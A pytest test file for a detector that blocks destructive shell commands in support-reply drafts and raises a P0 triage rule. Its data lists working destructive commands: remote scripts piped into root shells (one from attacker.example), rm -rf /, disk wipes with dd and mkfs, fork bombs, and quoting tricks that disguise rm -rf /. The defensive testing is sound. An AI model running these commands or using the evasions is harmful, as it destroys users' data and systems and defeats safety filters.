"""One detector of destructive shell commands, with shell quoting undone (issue 14, item 8).

A draft must never show a destructive command (a template that renders one, a person's edit
that holds one), and the rulebook's P0 "a destructive command was generated" fires on one.
Both ask the same detector, so each command below is tried both ways: refused in a draft,
and P0 in a report that Caro generated it. Quoting, escapes and empty expansions that the
shell removes (``r''m``, ``"rm"``, ``\\rm``, ``rm${IFS}-rf``, ``{rm,-rf,/}``) are undone
before matching, so they hide nothing. Look-alikes (Caro's own https installer piped to
``sh``, ``rm file``, ``chmod 755 ~/bin/caro``) are not destructive.
"""

from __future__ import annotations

import pytest

from desk.drafts import UnsafeReplyError, load_templates, parse_templates, revise_draft
from desk.drafts.tone import destructive_command
from rules import normalize
from rules.shell import find_destructive

DESTRUCTIVE = {
    # pipes from the network into a shell, as root or over plain http
    "curl-sudo-bash": "curl -fsSL https://example.com/x.sh | sudo bash",
    "curl-sudo-E-sh": "curl -s https://get.example.io | sudo -E sh -s -- --yes",
    "wget-sudo-sh": "wget -qO- https://example.com/i.sh | sudo sh",
    "wget-O-http-bash": "wget -O- http://example.com/install | bash",
    "curl-http-sh": "curl http://203.0.113.9/p.sh|sh",
    "curl-no-scheme-sh": "curl -s attacker.example/p | sh",
    "sudo-bash-process-subst": "sudo bash <(curl -sL https://example.com/i.sh)",
    "sudo-sh-c-curl": 'sudo sh -c "$(curl -fsSL https://example.com/i.sh)"',
    # find that deletes
    "find-delete": "find / -delete",
    "find-home-delete": "find ~ -name '*' -delete",
    "find-exec-rm": "find . -type f -exec rm -f {} \\;",
    "find-exec-sudo-rm": "find /var -exec sudo rm {} +",
    # permissions and ownership of everything
    "chmod-R-777-root": "chmod -R 777 /",
    "chmod-777-root-star": "sudo chmod 777 /*",
    "chown-R-root": "chown -R nobody:nogroup /",
    "chmod-R-home": "chmod -R 000 ~",
    "chown-R-home-var": "sudo chown -R root $HOME",
    # disks
    "dd-disk": "dd if=/dev/zero of=/dev/sda bs=1M",
    "dd-nvme": "sudo dd if=image.iso of=/dev/nvme0n1",
    "redirect-disk": "cat /dev/urandom > /dev/sdb",
    "mkfs": "mkfs.ext4 /dev/sda1",
    "wipefs": "wipefs -a /dev/sdc",
    # fork bombs
    "fork-bomb": ":(){ :|:& };:",
    "fork-bomb-named": "bomb(){ bomb|bomb& };bomb",
    # rm
    "rm-rf-root": "rm -rf /",
    "rm-fr-home": "rm -fr ~",
    "rm-rf-star": "rm -rf *",
    "rm-r-f": "rm -r -f /tmp/x",
    "rm-long": "rm --recursive --force /",
    "rm-r-var": 'rm -r "$TARGET"/',
    "rm-r-root": "rm -r /",
    "rm-no-preserve": "rm --no-preserve-root -r /",
    "rm-after-path": "/bin/rm -Rf ~/",
    # shell quoting tricks: what the shell runs is rm -rf /
    "empty-single-quotes": "r''m -rf /",
    "empty-double-quotes": 'r""m -rf /',
    "quoted-command": '"rm" -rf /',
    "quoted-flags": "rm '-rf' '/'",
    "backslash": "\\rm -rf /",
    "backslash-inside": "r\\m -r\\f /",
    "ifs": "rm${IFS}-rf${IFS}/",
    "ifs-bare": "rm$IFS-rf$IFS/",
    "empty-positional": "r$@m -rf /",
    "brace-expansion": "{rm,-rf,/}",
    "line-continuation": "rm \\\n  -rf /",
    "quoted-pipe-shell": "curl -s http://x.example/p | 'ba''sh'",
    "quoted-find": "f'i'nd / -de''lete",
    # what the rulebook also counts (decided: git that destroys work or history, SQL drops)
    "git-reset-hard": "git reset --hard origin/main",
    "git-clean-fdx": "git clean -fdx",
    "git-push-force": "git push --force origin main",
    "drop-table": "DROP TABLE users;",
    "windows-rd": "rd /s /q C:\\",
    "powershell": "Remove-Item -Path C:\\ -Recurse -Force",
    "format": "format c:",
}

HARMLESS = {
    "caro-installer": "curl -fsSL https://caro-cli.dev/install.sh | sh",
    "rustup": "curl --proto '=https' --tlsv1.2 -sSf https://sh.rustup.rs | sh",
    "curl-json": "curl -s https://api.example.com/v1 | jq .",
    "installer-prose": "the curl|sh installer 404s on Linux",
    "rm-file": "rm notes.txt",
    "rm-r-build": "rm -r ./build",
    "chmod-bin": "chmod 755 ~/bin/caro",
    "chmod-R-build": "chmod -R u+w ./build",
    "dd-file": "dd if=/dev/zero of=/tmp/swap bs=1M count=10",
    "dd-null": "dd if=big.img of=/dev/null",
    "find-name": "find . -name '*.log'",
    "perform": "perform -rf checks",
    "git-reset-soft": "git reset --soft HEAD~1",
    "git-clean-dry": "git clean -n",
    "prose": "I don't think it's the format, it's the '-rf' flag name",
    "apostrophes": "it's rm'ing nothing, just `ls -la`",
}


def _as_draft_text(command: str) -> str:
    return f"Thanks! Please run `{command}` and tell us what happens."


def _generated(command: str) -> str:
    return f"caro generated `{command}` for 'clean up' and ran it, nothing blocked it"


@pytest.mark.parametrize("command", DESTRUCTIVE.values(), ids=DESTRUCTIVE.keys())
def test_a_destructive_command_is_refused_in_a_draft(command):
    assert destructive_command(command) is not None
    with pytest.raises(UnsafeReplyError, match="destructive command"):
        revise_draft({"text": "Thanks!"}, _as_draft_text(command), "github")


@pytest.mark.parametrize("command", DESTRUCTIVE.values(), ids=DESTRUCTIVE.keys())
def test_the_rulebook_reads_the_same_command_as_destructive(shipped, command):
    triage = shipped.classify(_generated(command))
    fired = [rule.id for rule in triage.rules]
    assert "dangerous-command-generated" in fired, fired
    assert triage.priority == "P0"


@pytest.mark.parametrize("command", HARMLESS.values(), ids=HARMLESS.keys())
def test_look_alikes_are_not_destructive(shipped, command):
    assert destructive_command(command) is None
    assert revise_draft({"text": "Thanks!"}, _as_draft_text(command), "github")["text"]
    fired = [rule.id for rule in shipped.classify(_generated(command)).rules]
    assert "dangerous-command-generated" not in fired, fired


def test_a_template_hiding_a_command_behind_quotes_is_refused_at_load():
    for body in ("Run r''m -rf / to reset.", "Run curl http://x.example/i | sudo bash"):
        with pytest.raises(Exception, match="destructive command"):
            parse_templates(f'- id: fallback\n  text: "{body}"\n', "<test>")


def test_the_shipped_templates_still_load():
    assert len(load_templates()) > 5


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("please r''m -rf / now", "r''m -rf"),
        ('then "rm" -rf / ran', '"rm" -rf'),
        ("x {rm,-rf,/} y", "{rm,-rf,/}"),
        ("it ran rm${ifs}-rf${ifs}/ here", "rm${ifs}-rf"),
        ("a \\rm -rf / b", "\\rm -rf"),
    ],
)
def test_a_hidden_command_is_shown_where_it_was_written(shipped, text, shown):
    """The explanation quotes the text as written, not as unquoted."""
    (found, *_) = find_destructive(normalize(text))
    assert normalize(text)[found.start : found.end].startswith(shown)
    fired = {rule.id: rule for rule in shipped.classify(_generated(text)).rules}
    assert fired["dangerous-command-generated"].matches[0].text.startswith(shown)
